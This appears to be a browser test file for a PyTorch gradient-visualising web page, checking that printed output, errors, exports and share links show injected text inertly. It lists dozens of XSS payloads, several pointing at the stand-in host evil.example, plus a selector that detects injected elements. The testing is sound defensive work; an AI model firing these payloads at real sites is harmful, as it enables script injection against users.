"""What a program calls things, prints and fails with is text, never markup or script."""

import io
import re
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Page, expect

from tests.browser.steps import open_page, type_program
from tests.browser.taken import export

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<script>alert(1)</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</code></pre><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x></svg>#x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>*{display:none}</style></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/a.css';</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}} ${7*7} %s {0.__class__}",
    "{name|one|many} {count}",
    "__proto__ constructor.prototype.polluted",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "\u202e<b>bold</b>\u2066",
    "&lt;img src=x onerror=alert(1)&gt;",
]
FOREIGN = """() => [...document.querySelectorAll('*')].filter((element) =>
  element.matches('script:not([src^="/static/~"]), img:not([src^="/static/~"][src$="/icon.svg"], .cm-widgetBuffer), iframe, object, embed, base, form, video, audio, source, template, marquee, foreignObject, '
    + 'maction, animate, use, style:not([nonce]), link:not([href^="/static/~"]), meta[http-equiv], a[href^="javascript:"], [style*="evil"]')
  || [...element.attributes].some((attribute) => /^on/i.test(attribute.name))).map((element) => element.outerHTML.slice(0, 120))"""
EACH = 13
SHAPES = {
    "svg",
    "title",
    "desc",
    "metadata",
    "rdf:rdf",
    "cc:work",
    "dc:source",
    "style",
    "g",
    "rect",
    "circle",
    "path",
    "text",
}


def program(payloads: list[str]) -> str:
    """The payloads as comments, keys, arguments, names of scopes, printed text and the message of an error."""
    lines = ["import torch", "def f(text):", "    return torch.tensor(2.0, requires_grad=True)", "kept = {}"]
    for number, payload in enumerate(payloads):
        quoted = ascii(payload) if not payload.isprintable() else repr(payload)
        lines += [f"kept[{quoted}] = f({quoted})  # {payload}", f"print({quoted})", f"v{number} = kept[{quoted}] * 3"]
    total = " + ".join(f"v{number}" for number in range(len(payloads)))
    message = " ".join(payloads[:3])
    return "\n".join([*lines, f"total = {total}", "total.backward()", f"raise ValueError({message!r})", ""])


def marked(text: str) -> str:
    """The text as it is shown: a sign that turns the direction of writing is a mark."""
    return re.sub("[\u202a-\u202e\u2066-\u2069]", lambda sign: f"⟨U+{ord(sign[0]):04X}⟩", text)


@pytest.fixture
def watched(page: Page) -> Page:
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    page.add_init_script(
        "window.reports = []; addEventListener('securitypolicyviolation', (event) => window.reports.push(event.violatedDirective))"
    )
    return page


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), EACH))
def test_printed_text_errors_and_source_are_shown_as_they_are(watched: Page, first: int) -> None:
    payloads = PAYLOADS[first : first + EACH]
    open_page(watched)
    watched.evaluate("(text) => gradlight.run(text)", program(payloads))
    expect(watched.locator("[data-output]")).to_contain_text("ValueError")
    shown = watched.locator("[data-output] .printed").text_content() or ""
    assert [payload for payload in payloads if marked(payload) not in shown] == []
    last = watched.evaluate("() => gradlight.state().last")
    for share in (0.2, 0.5, 0.8, 1):
        watched.evaluate("(seq) => gradlight.seek(seq)", round(last * share))
        assert watched.evaluate(FOREIGN) == []
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", watched.locator("body").inner_text())
    watched.locator("#stage .card").first.dispatch_event("click")
    watched.evaluate("() => gradlight.set('view', 'table')")
    assert watched.evaluate(FOREIGN) == []
    assert watched.evaluate("() => window.reports") == []
    assert watched.evaluate("() => ({}).polluted === undefined")


def markup(file: bytes) -> set[tuple[str, ...]]:
    """The kinds of element in a file, each with the names of its attributes and the addresses in them."""
    found: set[tuple[str, ...]] = set()

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            far = (
                value or ""
                for name, value in attrs
                if name.endswith(("href", "src")) and not (value or "").startswith("#")
            )
            found.update({(tag, name) for name, _ in attrs}, {(tag, address) for address in far}, {(tag,)})

        handle_startendtag = handle_starttag

    Reader().feed(file.decode())
    return found


@pytest.mark.parametrize("format", ["svg", "html"])
def test_a_file_that_the_page_makes_holds_them_as_text_only(watched: Page, format: str) -> None:
    open_page(watched)
    made = []
    for payloads in (["words", "more words"], PAYLOADS[::3]):
        watched.evaluate("(text) => gradlight.run(text)", program(payloads))
        expect(watched.locator("[data-output]")).to_contain_text(
            payloads[1] if payloads[0] == "words" else "ValueError"
        )
        made.append(export(watched, format))
    plain, hostile = map(markup, made)
    assert hostile <= plain
    if format == "svg":
        ElementTree.fromstring(made[1])
    assert watched.evaluate("() => window.reports") == []


CUES = """(text) => new Promise((resolve) => {
  const track = document.body.appendChild(document.createElement('video')).appendChild(document.createElement('track'));
  track.default = true;
  track.addEventListener('load', () => resolve([...track.track.cues].map((cue) => cue.getCueAsHTML()).map((cue) => [cue.textContent, cue.querySelectorAll('*').length])));
  track.addEventListener('error', () => resolve(null));
  track.src = URL.createObjectURL(new Blob([text], { type: 'text/vtt' }));
})"""


def test_captions_a_series_and_a_handout_hold_them_as_text_only(watched: Page, new_page: Callable[..., Page]) -> None:
    """Read by Chromium's own reader of captions, by an archiver, and as a page."""
    open_page(watched)
    watched.evaluate("(text) => gradlight.run(text)", program([*PAYLOADS[1::5], "--> <c.red>x</c>"]))
    expect(watched.locator("[data-output]")).to_contain_text("ValueError")
    captions = export(watched, "vtt", **{"from": 0, "to": 20}).decode()
    reader = new_page()
    reader.goto("about:blank")
    cues = reader.evaluate(CUES, captions)
    assert len(cues) == captions.count("\n\n") > 10
    assert all(text and elements == 0 for text, elements in cues)
    with zipfile.ZipFile(io.BytesIO(export(watched, "zip", **{"from": 3, "to": 6}))) as series:
        assert series.testzip() is None
        assert all(re.fullmatch(r"\d+\.svg|captions\.txt", name) for name in series.namelist())
        for name in series.namelist()[:-1]:
            assert {tag for tag, *_ in markup(series.read(name))} <= SHAPES
    watched.locator("#stage svg").first.focus()
    with watched.expect_popup() as opened:
        watched.keyboard.press("Control+p")
    opened.value.locator("html[data-ready]").wait_for()
    assert opened.value.evaluate(FOREIGN) == []


def test_a_link_and_an_address_bring_text_only(watched: Page) -> None:
    open_page(
        watched, "/?lang=%22%3E%3Cscript%3Ealert(1)%3C/script%3E#v=1&p=%3Cimg%20src=x%20onerror=alert(1)%3E&s=%3Cb%3E"
    )
    assert watched.evaluate(FOREIGN) == []
    assert watched.evaluate("() => window.reports") == []


def test_a_name_in_another_script_is_drawn_as_text(watched: Page) -> None:
    open_page(watched)
    type_program(
        watched, "import torch\n权重 = torch.tensor(1.0, requires_grad=True)\n损失 = 权重 * 3\n损失.backward()\n"
    )
    expect(watched.locator("#stage")).to_contain_text("权重")
    expect(watched.locator("[data-track]")).to_contain_text("权重")


def test_a_link_never_runs_its_program_by_itself(new_page: Callable[..., Page]) -> None:
    first = new_page()
    open_page(first)
    type_program(first, "import torch\nx = torch.tensor(2.0, requires_grad=True)\ny = x ** 3\ny.backward()\n")
    first.evaluate("() => gradlight.seek(6)")
    first.locator("[data-action=share]").click()
    first.wait_for_function("() => location.hash.startsWith('#v=1&p=')")
    address = first.evaluate("() => location.hash")

    second = new_page()
    posted = []
    second.on("request", lambda request: posted.append(request.url) if request.method == "POST" else None)
    open_page(second, f"/{address}")
    expect(second.locator("[data-editor]")).to_contain_text("x ** 3")
    assert posted == []
    second.locator("[data-action=run]").click()
    second.wait_for_function("() => gradlight.state().cursor === 6 && gradlight.state().last > 6")
    assert len(posted) == 1


def test_a_damaged_link_says_so_and_opens_the_page(page: Page) -> None:
    open_page(page, "/#v=1&p=AAAA____")
    expect(page.locator("[data-notes]")).to_contain_text("damaged")
